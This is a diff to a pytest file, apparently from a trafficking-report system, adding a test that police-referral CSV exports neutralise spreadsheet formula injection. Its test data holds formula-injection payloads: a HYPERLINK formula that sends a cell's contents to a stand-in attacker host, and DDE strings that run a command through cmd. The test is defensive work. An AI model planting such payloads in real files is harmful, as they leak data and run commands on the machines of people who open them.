@@ -12,11 +12,12 @@ import pytest
 
 from office.handover import verify
 
-from .conftest import CANARY_TEXT, DESA_B, Seeded, seal, zip_texts
+from .conftest import CANARY_TEXT, DESA_B, Seeded, move_to, zip_texts
 from jaga_desa.testing.servers import OfficeServer
 from tests.support import enroll as enroll_person
 
 PHONE_AS_WRITTEN = "0812-7731 5599"
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
 PHONE_E164 = "+6281277315599"
 HANDLE = "@kenari.calo"
 
@@ -40,8 +41,13 @@ def v2(tmp_path_factory) -> Seeded:
             {"peran": "calo", "nama": f"Pak {CANARY_TEXT}", "telepon": PHONE_AS_WRITTEN, "akun_medsos": HANDLE},
             {"peran": "tekong", "kapal": f"KM {CANARY_TEXT} Jaya", "telepon": "+62 812 7731 5599"}]
         sealed = [seal_v2(person, answers) for _ in range(2)]
-        assert all(r["status"] == "accepted" for r in client.push([x.envelope for x in sealed]))
-        s.ids = {"v2": [x.envelope_id for x in sealed]}
+        hostile = dict(answers, tempat_berangkat=FORMULAS[0], catatan=FORMULAS[1],
+                       terlibat=[{"peran": "calo", "nama": FORMULAS[2], "akun_medsos": FORMULAS[0],
+                                  "telepon": "+62 812 7731 5599"}])
+        formula = seal_v2(person, hostile)
+        assert all(r["status"] == "accepted" for r in client.push([x.envelope for x in sealed + [formula]]))
+        s.ids = {"v2": [x.envelope_id for x in sealed], "formula": [formula.envelope_id]}
+        move_to(server.data_dir, s.ids["v2"] + s.ids["formula"], s.today)
         yield s
     finally:
         server.stop()
@@ -61,7 +67,7 @@ def test_tier_b_pseudonymises_each_identifier_per_recipient(v2, tmp_path):
     b = v2.export("B", tmp_path / "b.zip", "--recipient", "BP3MI Kaltara")
     rows_a, rows_b = table(a, "identifiers"), table(b, "identifiers")
     phones = [r for r in rows_a if r["kind"] == "phone"]
-    assert len(phones) == 4 and len({r["identifier_pid"] for r in phones}) == 1     # one number, one id
+    assert len(phones) == 5 and len({r["identifier_pid"] for r in phones}) == 1     # one number, one id
     assert {r["role"] for r in phones} == {"calo", "tekong"}
     assert not {r["identifier_pid"] for r in rows_a} & {r["identifier_pid"] for r in rows_b}
     reports = {r["report_pid"] for r in table(a, "reports")}
@@ -76,8 +82,23 @@ def test_tier_c_gives_phone_numbers_in_e164(v2, tmp_path):
     out = v2.export("C", tmp_path / "c.zip", "--recipient", "Polres Nunukan", "--reason", "penyidikan",
                     "--report", v2.ids["v2"][0])
     phones = [r for r in table(out, "identifiers") if r["kind"] == "phone"]
-    assert {r["value"] for r in phones} == {PHONE_E164}
+    assert {r["value"] for r in phones} == {"'" + PHONE_E164}      # text in a spreadsheet, not a sum
     assert PHONE_AS_WRITTEN in {r["as_written"] for r in phones}
     reports = table(out, "reports")
     iso = [c for c in reports[0] if c.startswith("keberangkatan_pmi__negara_tujuan") and c.endswith("__iso3166")]
     assert iso and all(len(code) == 2 for r in reports for c in iso for code in r[c].split())
+
+
+def test_tier_c_neutralises_formula_cells(v2, tmp_path):
+    """Issue 22.6: what a volunteer (or someone feeding her) typed as =HYPERLINK(…), +cmd|,
+    @SUM reaches the referral CSVs with the dashboard exports' leading apostrophe, in
+    reports.csv and identifiers.csv; read back as a spreadsheet's CSV import would."""
+    out = v2.export("C", tmp_path / "c.zip", "--recipient", "Polres Nunukan", "--reason", "penyidikan",
+                    "--report", v2.ids["formula"][0])
+    cells = [v for name in ("reports", "identifiers") for r in table(out, name) for v in r.values()]
+    for f in FORMULAS:
+        assert "'" + f in cells, f"{f!r} not neutralised"
+    assert not [c for c in cells if c[:1] in ("=", "+", "@")], "a cell a spreadsheet would run"
+    phone = [r for r in table(out, "identifiers") if r["kind"] == "phone"]
+    assert phone[0]["value"] == "'" + PHONE_E164 and phone[0]["as_written"] == "'+62 812 7731 5599"
+    assert verify(out)["valid"]
